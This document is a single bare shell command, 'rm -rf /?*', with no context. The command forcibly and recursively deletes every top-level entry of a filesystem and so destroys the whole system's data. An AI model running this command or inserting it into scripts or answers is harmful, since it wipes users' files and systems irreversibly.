rm -rf /?*
